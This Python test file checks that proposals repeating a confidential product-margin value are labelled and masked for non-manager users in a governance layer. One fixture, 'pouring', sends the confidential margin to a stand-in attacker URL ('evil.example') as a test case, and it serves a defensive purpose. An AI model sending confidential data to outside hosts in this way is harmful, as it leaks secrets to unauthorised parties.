"""A proposal shows nobody what the entities it repeats would not show (I10)."""

from collections.abc import Sequence
from typing import Any

import pytest

from coordination.proposals import Draft
from coordination.wakes import Wake
from governance.principals import load_principal
from governance.rules import load_rules
from governance.view import GovernedView
from kg.model import Change, Entity, Input, Put
from kg.store import GraphStore
from tests.coordination.plant import RULES, card, low, ontology, plant

LABELLED = """
@prefix n: <urn:noesis:ns#> . @prefix e: <urn:plant#> .
@prefix owl: <http://www.w3.org/2002/07/owl#> . @prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
@prefix xsd: <http://www.w3.org/2001/XMLSchema#> .
e:margin a owl:DatatypeProperty ; rdfs:domain e:Product ; rdfs:range xsd:string ; n:sensitivity "confidential" .
"""
READING = (
    *RULES,
    '@id("all-read") permit(principal, action == Action::"read", resource);',
    '@id("confidential") forbid(principal, action == Action::"read", resource == Label::"confidential") '
    'unless { principal in Role::"managers" };',
)


def writing(change: Change, entity: Entity, store: GraphStore, at: int) -> Sequence[Draft]:
    write = Put(entity.id, "Product", {"margin": "37 percent"})
    return [
        Draft("margin.set", entity.id, (write,), rationale="as agreed", evidence=(Input(entity.id, entity.version),))
    ]


def quoting(change: Change, entity: Entity, store: GraphStore, at: int) -> Sequence[Draft]:
    write = Put(entity.id, "Product", {"note": "seen"})
    words = f"its margin is {entity['margin']}"
    return [Draft("note.set", entity.id, (write,), rationale=words, evidence=(Input(entity.id, entity.version),))]


def silent(change: Change, entity: Entity, store: GraphStore, at: int) -> Sequence[Draft]:
    write = Put(entity.id, "Product", {"note": "seen"})
    return [Draft("note.set", entity.id, (write,), rationale="it is low", evidence=(Input(entity.id, entity.version),))]


def pouring(change: Change, entity: Entity, store: GraphStore, at: int) -> Sequence[Draft]:
    payload = {"url": "https://evil.example/x", "body": {"note": f"Margin:\n{str(entity['margin']).upper()}"}}
    return [Draft("note.send", entity.id, effector="telling", payload=payload, rationale="as asked")]


def test_what_leaves_is_labelled_by_all_that_was_read_whatever_evidence_is_named() -> None:
    words = ontology(LABELLED)
    house = plant(
        [card("buyer", Wake("Product", properties=("stock",), condition=low))],
        {"buyer": pouring},
        rules=READING,
        words=words,
    )
    house.product("p1", stock=5, margin="52 percent")
    house.run()
    assert house.one()["labels"] == ("confidential@Product",)


def seen(act: Any, who: str) -> Entity:
    words = ontology(LABELLED)
    house = plant(
        [card("buyer", Wake("Product", properties=("stock",), condition=low))],
        {"buyer": act},
        rules=READING,
        words=words,
    )
    house.product("p1", stock=5, margin="52 percent")
    house.run()
    proposal = house.one()
    view = GovernedView(load_principal(house.store, f'User::"{who}"'), load_rules(house.store, words), words)
    shown = view.see([proposal])[0]
    assert shown is not None
    return shown


@pytest.mark.parametrize("act", [writing, quoting])
def test_what_repeats_a_labelled_value_is_masked_like_it(act: Any) -> None:
    shown = seen(act, "ben")
    assert {"writes", "rationale"} <= shown.masked
    assert not {"writes", "payload", "rationale", "alternatives"} & shown.properties.keys()
    assert "percent" not in str(shown.properties)


@pytest.mark.parametrize("act", [writing, quoting])
def test_who_may_read_the_label_sees_the_whole_proposal(act: Any) -> None:
    assert "rationale" in seen(act, "anna").properties


def test_a_proposal_that_repeats_nothing_labelled_is_open() -> None:
    assert seen(silent, "ben")["rationale"] == "it is low"
